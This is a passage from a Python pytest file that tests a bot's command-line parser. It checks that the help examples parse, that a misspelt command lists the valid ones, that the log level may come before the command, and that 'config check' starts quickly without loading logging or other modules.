        assert (sub.epilog or "").startswith("Example: poundbot "), name
        words = shlex.split(EXAMPLES[name].split(">")[0])[1:]
        parsed = parser.parse_args(words)  # the example is a command poundbot takes
        assert parsed.func is not None, name


def test_a_command_built_alone_is_the_command_built_with_all_the_others() -> None:
    import shlex

    from bot.entry.cli import EXAMPLES, _described, build_parser, leaves

    def shape(parser: argparse.ArgumentParser) -> list[tuple[str, str, list[str]]]:
        return [
            (name, sub.format_help(), sorted(sub._option_string_actions))
            for name, sub, _ in leaves(parser)
        ]

    whole = shape(_described(build_parser()))
    for name in EXAMPLES:
        top = name.split()[0]
        alone = _described(build_parser(top))
        assert {leaf for leaf, _, _ in leaves(alone)} == {
            leaf for leaf, _, _ in whole if leaf.split()[0] == top
        }, top
        assert [row for row in whole if row[0].split()[0] == top] == shape(alone), top
        words = shlex.split(EXAMPLES[name].split(">")[0])[1:]
        assert alone.parse_args(words).func is not None, name


def test_a_word_that_is_no_command_is_answered_with_the_commands_there_are(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["confg", "check"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "invalid choice: 'confg'" in err
    for command in ("serve", "config", "users", "backup", "demo", "console", "env"):
        assert f"'{command}'" in err


def test_the_log_level_may_come_before_the_command(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["--log-level", "debug", "config", "check", str(SAMPLE)]) == 0
    assert main(["--log-level=error", "config", "check", str(SAMPLE)]) == 0
    assert capsys.readouterr().out.count(": OK (") == 2


@pytest.mark.parametrize(
    "argv",
    [["config", "check"], ["config", "check", "poundbot.toml"], ["config", "check", ""]],
    ids=["the file in use", "a file", "an empty name"],
)
def test_a_bare_config_check_is_read_as_its_parser_reads_it(argv: list[str]) -> None:
    """``config check [FILE]`` alone builds no parser (bench/cli_start.py times it); what
    it reads is what the parser would have read."""
    from bot.entry.cli import _bare_config_check, _described, build_parser

    parsed = _described(build_parser(argv[0])).parse_args(argv)
    assert _bare_config_check(argv) == parsed


@pytest.mark.parametrize(
    "argv",
    [
        ["config", "check", "--help"],
        ["config", "check", "-"],
        ["config", "check", "a.toml", "b.toml"],
        ["--log-level", "debug", "config", "check"],
        ["config", "show"],
        ["config"],
    ],
)
def test_any_other_command_line_is_left_to_the_parser(argv: list[str]) -> None:
    from bot.entry.cli import _bare_config_check

    assert _bare_config_check(argv) is None


def test_config_check_loads_neither_logging_nor_the_other_commands() -> None:
    """What keeps ``config check`` quick (bench/cli_start.py times it): it builds no
    parser and logs nothing, so logging, the console and the demo stay unloaded; and the
    configuration's records (and the domain's that it builds) are no dataclasses, whose
    module (with inspect) and generated methods were a third of its start."""
    import subprocess
    import sys

    probe = (
        "import sys\n"
        "from bot.entry.cli import main\n"
        f"assert main(['config', 'check', {str(SAMPLE)!r}]) == 0\n"
        "print(sorted(m for m in ('logging', 'bot.entry.console', 'bot.demo',"
        " 'sqlalchemy', 'telegram', 'dataclasses', 'inspect') if m in sys.modules))\n"
    )
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "[]"
